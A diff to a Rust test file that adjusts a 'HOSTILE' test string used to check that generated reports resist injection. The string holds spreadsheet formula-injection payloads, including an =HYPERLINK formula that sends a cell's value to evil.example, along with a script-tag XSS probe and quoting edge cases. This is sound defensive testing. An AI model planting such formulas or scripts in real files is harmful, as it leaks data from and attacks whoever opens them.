@@ -363,10 +363,11 @@ fn a_report_into_a_missing_directory_fails_before_reading_anything() {
 }
 
 /// Text built to attack whoever opens the report: a formula, a script, double quotes and line
-/// breaks inside quotes, in the article and in the names of the inputs.
+/// breaks inside quotes, in the article and in the names of the inputs. The blank line makes it
+/// hard-wrapped text, where a quote runs on over a line break.
 const HOSTILE: &str = "Le maire a déclaré : « =HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\") ».\n\
 Il a ajouté : « <script>alert(\"x\")</script> ».\n\
-\"He said \"\"no\"\",\nthen left,\" she said.\n\
+\"He said \"\"no\"\",\nthen left,\" she said.\n\n\
 Puis : « @SUM(1+1)\r\n-2+3 ».\n";
 
 #[test]
